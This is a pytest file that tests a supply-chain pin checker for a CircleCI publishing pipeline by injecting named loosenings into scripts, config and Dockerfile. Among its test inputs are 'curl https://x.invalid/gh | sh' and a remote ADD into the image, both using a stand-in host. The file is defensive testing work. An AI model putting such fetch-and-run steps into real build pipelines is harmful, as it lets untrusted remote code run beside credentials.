"""Attacks on what runs near a credential: a pin taken away in one place of the pipeline, which has to be noticed."""

import json
import re
import subprocess
import sys
from typing import NamedTuple

import pytest

from circleci_config import Node
from pins import ROOT, files, unpinned
from test_pipeline import ORBS

DIGEST = r"@sha256:[0-9a-f]{64}"


class Loosened(NamedTuple):
    """A pin taken away: in a file, what a pattern finds becomes something else; words of what is found then."""

    file: str
    pattern: str
    instead: str
    found: str


IMAGE, RELEASE, ORB = (f".circleci/publish-{what}" for what in ("image", "release", "orb"))
CONFIG, DEPLOY = ".circleci/config.yml", ".circleci/test-deploy.yml"

ATTACKS = {
    "the emulator by no digest": Loosened(IMAGE, rf"binfmt{DIGEST}", "binfmt", "image of 'docker run"),
    "the emulator by a tag": Loosened(IMAGE, rf"binfmt{DIGEST}", "binfmt:qemu-v10.2.1", "image of 'docker run"),
    "the emulator by half a digest": Loosened(IMAGE, r"(binfmt@sha256:\w{20})\w+", r"\1", "image of 'docker run"),
    "the emulator after the login": Loosened(
        IMAGE, r"(docker run .*\n)((?s:.*))(docker login .*\n)", r"\2\3\1", "after the login"
    ),
    "another container after the login": Loosened(IMAGE, r"$", "docker run alpine true\n", "after the login"),
    "the builder by a tag": Loosened(IMAGE, rf"(buildkit:v[\d.]+){DIGEST}", r"\1", "builder of"),
    "the builder by default": Loosened(IMAGE, r" --driver-opt=\S+", "", "builder of"),
    "the scanner by a tag": Loosened(IMAGE, rf"(scanner:stable-1){DIGEST}", r"\1", "generator of"),
    "the scanner by default": Loosened(IMAGE, r"--attest=\S+", "--sbom=true", "generator of"),
    "built after the login only": Loosened(IMAGE, r"^build$", "", "first built after the login"),
    "a download of gh unchecked": Loosened(RELEASE, r"^sha256sum .*$", "", "download of"),
    "gh from a pipe": Loosened(RELEASE, r"^curl .*$", "curl https://x.invalid/gh | sh", "install by"),
    "gh from a package": Loosened(RELEASE, r"^mkdir.*|^tools=.*$", "apt-get install gh", "install by"),
    "a package without a hash": Loosened(RELEASE, r"^tools=.*$", "python3 -m pip install twine", "packages of"),
    "an installer for the orb": Loosened(ORB, r"^for .*$", "npm install x", "install by"),
    "an orb by its minor version": Loosened(CONFIG, r"orb-tools@12\.4\.0", "orb-tools@12.4", "orb circleci/orb-tools"),
    "an orb that changes": Loosened(CONFIG, r"orb-tools@12\.4\.0", "orb-tools@volatile", "orb circleci/orb-tools"),
    "one more orb": Loosened(DEPLOY, r"^executors:", "orbs: {gh: circleci/github-cli@2}\nexecutors:", "github-cli@2"),
    "an orb's job with a credential": Loosened(
        DEPLOY,
        r"- publish_orb:\n\s+name: publish_dev_orb\n\s+orb_name: \S+",
        "- orb-tools/pack:\n          name: publish_dev_orb",
        "publish_dev_orb: image cimg/base:current",
    ),
    "a machine that changes": Loosened(DEPLOY, r"ubuntu-2404:[\d.]+", "ubuntu-2404:current", "machine ubuntu-2404"),
    "a machine of a quarter": Loosened(DEPLOY, r"ubuntu-2404:[\d.]+", "ubuntu-2404:2026.05", "machine ubuntu-2404"),
    "the client by a tag": Loosened(DEPLOY, rf"(circleci-cli:[\d.]+){DIGEST}", r"\1", "image circleci/circleci-cli"),
    "a command beside the script": Loosened(
        DEPLOY, r"command: \.circleci/publish-orb", "command: docker run alpine", "image of 'docker run alpine'"
    ),
    "the base by a tag": Loosened(
        "Dockerfile", rf"(python:3\.13-slim){DIGEST}", r"\1", "base docker.io/library/python"
    ),
    "another base": Loosened("Dockerfile", r"^FROM \S+ AS build", "FROM debian:13 AS build", "base debian:13"),
    "a file of another image": Loosened("Dockerfile", r"--from=build", "--from=x/uv:1", "copy from x/uv:1"),
    "another frontend": Loosened("Dockerfile", r"\A", "# syntax=docker/dockerfile:1\n", "frontend docker/dockerfile:1"),
    "a download into the image": Loosened("Dockerfile", r"^USER", "ADD https://x.invalid/x /\nUSER", "a download"),
    "packages of the image without hashes": Loosened("Dockerfile", r"--require-hashes -r req", "-r req", "packages of"),
    "packages of the release without hashes": Loosened("Makefile", r"--require-hashes --req", "--req", "packages of"),
    "dependencies that pip chooses": Loosened("orb/scripts/install.sh", r" --no-deps", "", "dependencies of"),
}


def test_nothing_unpinned_runs_where_a_credential_is() -> None:
    assert unpinned(files(), ORBS) == []


@pytest.mark.parametrize("name", ATTACKS)
def test_a_pin_taken_away_is_noticed(name: str) -> None:
    attack = ATTACKS[name]
    given = files()
    loosened = re.sub(attack.pattern, attack.instead, given[attack.file], flags=re.MULTILINE)
    assert loosened != given[attack.file], "the attack changes nothing"

    found = unpinned(given | {attack.file: loosened}, ORBS)

    assert any(attack.found in line for line in found), found


def test_newer_pins_are_proposed() -> None:
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.renovate", "renovate.json"]
    subprocess.run(command, cwd=ROOT, check=True, capture_output=True)
    settings = json.loads((ROOT / "renovate.json").read_text(encoding="utf-8"))
    assert {"pip_requirements", "dockerfile", "circleci"} <= set(settings["enabledManagers"])

    lists = settings["pip_requirements"]["managerFilePatterns"]
    assert all(any(re.search(each.strip("/"), file.name) for each in lists) for file in ROOT.glob("requirements*.txt"))


@pytest.mark.parametrize(("script", "pin"), [(IMAGE, DIGEST), (RELEASE, r"sha256=[0-9a-f]{64}")])
def test_newer_pins_of_scripts_are_proposed(script: str, pin: str) -> None:
    settings: Node = json.loads((ROOT / "renovate.json").read_text(encoding="utf-8"))
    text = files()[script]
    covered = [
        match
        for manager in settings["customManagers"]
        if any(re.search(pattern.strip("/"), script) for pattern in manager["managerFilePatterns"])
        for expression in manager["matchStrings"]
        for match in re.finditer(expression.replace("(?<", "(?P<"), text)
    ]
    assert len(covered) == len(re.findall(pin, text)) > 0
